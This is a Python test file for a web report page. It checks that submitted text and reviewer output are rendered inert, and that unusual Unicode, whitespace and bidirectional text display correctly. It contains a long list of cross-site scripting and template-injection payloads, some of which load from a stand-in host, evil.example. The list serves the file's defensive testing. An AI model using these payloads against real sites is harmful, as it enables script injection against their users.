"""Hostile and unusual text: it comes back as it was, in its place, and never becomes part of the page."""

from __future__ import annotations

import random
from collections.abc import Sequence
from dataclasses import replace
from itertools import pairwise
from typing import Any

import pytest

from service.errors import InvalidRequest, Problem
from service.labels import Label, Severity
from service.records import Abstention, Answer, Finding, InputWarning, LabelledSpan, Report, Versions

from .browsing import Page
from .marked_report import Script, ScriptedReviewer, abstained, finding, report_on

#: What the report may be made of; all else came out of somebody's text.
ELEMENTS = {
    "A", "CAPTION", "DD", "DETAILS", "DIV", "DL", "DT", "FOOTER", "H2", "H3", "H4", "HEADER", "LI", "MARK",
    "OL", "P", "SECTION", "SPAN", "STRONG", "SUMMARY", "SUP", "TABLE", "TBODY", "TD", "TFOOT", "TH", "THEAD",
    "TR", "UL", "svg", "rect",
}  # fmt: skip
ATTRIBUTES = {
    "aria-hidden", "aria-label", "aria-labelledby", "class", "data-end", "data-insert-at", "data-label",
    "data-note", "data-start", "dir", "height", "href", "id", "open", "preserveAspectRatio",
    "role", "scope", "style", "tabindex", "viewBox", "width", "x", "y",
}  # fmt: skip

ACTIVE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0b>alert(1)</script >",
    "<script type=module>import('/x')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' onerror=\"alert(1)\">",
    "<IMG SRC=javascript:alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button form=form formaction=//evil.example>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=position:fixed;inset:0;background:red>x</div>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "<x onmouseover=alert(1) onclick=alert(1)>x</x>",
    "<p id=report-title><p id=form name=form>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&ltscript&gtalert(1)&lt/script&gt",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onfocus='alert(1)' autofocus tabindex='1",
    "\" autofocus onfocus=alert(1) x=",
    "`${alert(1)}`",
    "${alert(1)}{{constructor.constructor('alert(1)')()}}",
    "{{ config }}{% raw %}",
    "{{7*7}}<%= 7*7 %>#{7*7}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\u2028script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "]]>\"'></title></style></textarea></script><svg onload=alert(1)>",
    "__proto__ constructor toString hasOwnProperty",
)  # fmt: skip

UNUSUAL = (
    "😀", "👩‍👩‍👧‍👦", "🏳️‍🌈", "👍🏽", "🇵🇰🇬🇧", "𝔘𝔫𝔦", "e\u0301\u0327", "Z\u0351\u036b\u0343\u034b", "한국어",
    "नमस्ते", "\u202eabc\u202c", "\u200bx\u200d", "مرحبا", "שלום", "ﷺ", "\U0001d11e", "¼½", "\ufeffx", "漢字𠮷",
    "\u00a0", "ﬁ", "İı", "Ǆ", "a\u20dd", "🧑🏿‍🦽",
)  # fmt: skip


def _at_random(draw: random.Random, words: Sequence[str]) -> tuple[str, tuple[LabelledSpan, ...]]:
    """Return a text of the words, and spans that follow each other and end on words."""
    text, spans, labels = "", [], list(Label)
    for part in range(draw.randint(2, 5)):
        chosen = [draw.choice((*words, "word", "and")) for _ in range(draw.randint(1, 6))]
        start = len(text)
        text += "x" + " ".join(chosen) + "x"
        spans.append(LabelledSpan(start, len(text), labels[part], 0.9))
        text += draw.choice((" ", "\n", "\n\n", "  ", "\t"))
    return text, tuple(spans)


def test_two_hundred_texts_of_unusual_characters_are_marked_right(
    page: Page, reviewer: ScriptedReviewer
) -> None:
    draw = random.Random(20)
    wrong = []
    for _ in range(200):
        text, spans = _at_random(draw, UNUSUAL)
        start = draw.randrange(len(text) - 1)
        end = draw.randint(start + 1, len(text))
        note = finding("a.finding", Severity.ADVICE, at=(start, end))
        gap = finding("task.missing", Severity.ADVICE, Label.TASK, insert_at=spans[1].start)
        shown = _shown(page, reviewer, text, report_of(spans, note, gap))
        if shown["sent"] != text:
            wrong.append(("sent", text))
        if shown["words"] != [[span.label.value, text[span.start : span.end]] for span in spans]:
            wrong.append(("words", text))
        if text[start:end].strip() and "".join(shown["marked"].split()) != "".join(text[start:end].split()):
            wrong.append(("marked", text))
        if shown["before"] != text[spans[0].start : spans[0].end]:
            wrong.append(("gap", text))
    assert wrong == []


def report_of(spans: tuple[LabelledSpan, ...], *findings: Finding) -> Script:
    """Return the script of a reviewer that gives these spans and findings."""
    return lambda answer: report_on(answer, spans, findings)


def _shown(page: Page, reviewer: ScriptedReviewer, text: str, script: Script) -> dict[str, Any]:
    reviewer.script = script
    reviewer.seen.clear()
    page.submit(text)
    shown: dict[str, Any] = page.run(
        """const plain = (node) => {
          const copy = node.cloneNode(true);
          copy.querySelectorAll("sup").forEach((number) => number.remove());
          return copy.textContent;
        };
        return {
          words: [...document.querySelectorAll(".words")].map((node) => [node.dataset.label, plain(node)]),
          marked: [...document.querySelectorAll("mark")].map(plain).join(""),
          before: plain(document.querySelector(".gap").previousElementSibling.querySelector(".words")),
        };"""
    )
    return {**shown, "sent": reviewer.seen[0].text}


def _hostile_report(payload: str, at: Sequence[int]) -> Script:
    """Return a script whose reports hold the payload in every text, and cut it at ``at``."""

    def script(answer: Answer) -> Report:
        edges = [0, *at, len(answer.text)]
        labels = list(Label)
        spans = tuple(
            LabelledSpan(start, end, labels[i % 5], 0.4) for i, (start, end) in enumerate(pairwise(edges))
        )
        plain = (
            finding(payload, Severity.PROBLEM),
            finding("result.missing", Severity.PROBLEM, Label.RESULT, insert_at=at[0]),
            finding("a.strength", Severity.STRENGTH, at=(1, len(answer.text) - 1)),
            finding("an.advice", Severity.ADVICE, at=(at[0], at[-1] + 1)),
        )
        findings = [replace(item, message=payload, why=payload, advice=payload) for item in plain]
        report = report_on(answer, spans, findings, warnings=[InputWarning(payload, payload)])
        return replace(report, versions=Versions(payload, payload, payload, payload))

    return script


def _foreign(page: Page) -> list[str]:
    found: list[str] = page.run(
        """const [elements, attributes] = arguments;
        const foreign = [];
        for (const root of ["report", "trouble", "announcement"]) {
          for (const node of document.getElementById(root).querySelectorAll("*")) {
            if (!elements.includes(node.tagName)) foreign.push(node.tagName);
            for (const { name, value } of node.attributes) {
              if (!attributes.includes(name)) foreign.push(`${node.tagName} ${name}`);
              const form = {
                href: /^#(note|words|gap)-\\d+$|^#answer$/,
                style: /^(top|--notes-height): [\\d.]+px;$/,
              };
              if (name in form && !form[name].test(value)) foreign.push(value);
            }
          }
        }
        foreign.push(...[...document.scripts].filter(({ src }) => !src.startsWith(location.origin)));
        return foreign;""",
        sorted(ELEMENTS),
        sorted(ATTRIBUTES),
    )
    return found


def test_payloads_are_many_and_different() -> None:
    assert len(set(ACTIVE)) == len(ACTIVE) >= 60


def test_no_payload_becomes_part_of_the_report(page: Page, reviewer: ScriptedReviewer) -> None:
    for payload in ACTIVE:
        answer = f"a{payload}z"
        middle = len(answer) // 2
        # The borders tear the tag apart: what lies on either side must not become one again.
        reviewer.script = _hostile_report(payload, (2, middle, len(answer) - 3))
        page.submit(answer, question=payload)
        joined = page.run(
            """return [...document.querySelectorAll(".words")].map((words) => {
              const copy = words.cloneNode(true);
              copy.querySelectorAll("sup").forEach((number) => number.remove());
              return copy.textContent; }).join("")"""
        )
        assert joined == answer
        assert page.text(".asked .given") == payload
        assert page.text(".focus a") == payload
        assert page.texts(".why") == [payload] * 4
        assert page.text(".warnings li") == payload
        assert payload in page.text(".versions")
        assert _foreign(page) == [], payload
    assert page.seen("dialogs") == []
    assert page.seen("violations") == []


def test_no_payload_becomes_part_of_an_abstention_or_an_error(page: Page, reviewer: ScriptedReviewer) -> None:
    for payload in ACTIVE:

        def abstain(answer: Answer, payload: str = payload) -> Report:
            return replace(abstained(answer), abstention=Abstention(payload, payload))

        reviewer.script = abstain
        page.submit(f"a{payload}z", question=payload)
        assert page.text(".reason") == payload
        assert page.texts(".words") == [f"a{payload}z"]
        assert _foreign(page) == [], payload

        def refuse(answer: Answer, payload: str = payload) -> Report:
            raise InvalidRequest(422, payload, (Problem("", payload, payload),))

        reviewer.script = refuse
        page.submit(f"a{payload}z", question=payload)
        assert payload[1:] in page.text("#trouble")
        assert _foreign(page) == [], payload
    assert page.seen("dialogs") == []


@pytest.mark.parametrize("text", ["a\n\n  b\tc\r\nd", "one\u2028two\u2029three\u0085four"])
def test_white_space_is_kept(page: Page, reviewer: ScriptedReviewer, text: str) -> None:
    reviewer.script = lambda answer: report_on(answer, [LabelledSpan(0, len(answer.text), Label.ACTION, 0.9)])
    page.submit(text)
    # A text area gives every line end as one line feed, by the HTML standard.
    assert page.texts(".words") == [text.replace("\r\n", "\n")]
    assert page.one(".words").value_of_css_property("white-space") in ("pre-wrap", "break-spaces")


def test_text_that_turns_direction_turns_only_itself(page: Page, reviewer: ScriptedReviewer) -> None:
    text = "\u202eI led a team"
    reviewer.script = lambda answer: report_on(answer, [LabelledSpan(0, len(text), Label.ACTION, 0.9)])
    page.submit(text)
    assert page.one(".words").value_of_css_property("unicode-bidi") in ("isolate", "plaintext")
    assert page.one(".words").get_attribute("dir") == "auto"
